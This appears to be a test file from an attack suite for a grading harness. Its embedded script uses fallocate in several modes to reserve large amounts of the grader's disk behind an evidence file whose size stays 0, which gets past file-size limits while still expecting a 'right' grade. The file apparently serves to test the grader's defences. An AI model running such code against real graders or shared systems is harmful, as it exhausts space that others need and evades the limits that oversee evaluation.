"""Room on the grader's disk that no limit on the size of a file sees.

Strategy: reserve blocks behind the end of the evidence file, whose size stays 0.
Surface: the grader's disk, on which the evidence of everybody has to find room.
"""

from tests.attacks.arena import Attack

RESERVE = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.fallocate.argtypes = [ctypes.c_int, ctypes.c_int] + [ctypes.c_long] * 2
handle = os.open("/run/evidence", os.O_WRONLY)
def reserve(mode, size):
    if libc.fallocate(handle, mode, 0, size):
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return os.fstat(handle).st_blocks * 512
for mode in (1, 2, 3, 16):  # keep the size; punch a hole; both; zero a range
    try_to(f"fallocate, mode {mode}", lambda: reserve(mode, 2**28))
try_to("fallocate, past the largest file", lambda: reserve(0, 2**28))
print("as usual:", reserve(0, 2**20))
os.ftruncate(handle, 0)
"""

ATTACK = Attack(cells=(RESERVE,), answer="right", share=1, held=5, says="as usual: 1048576")
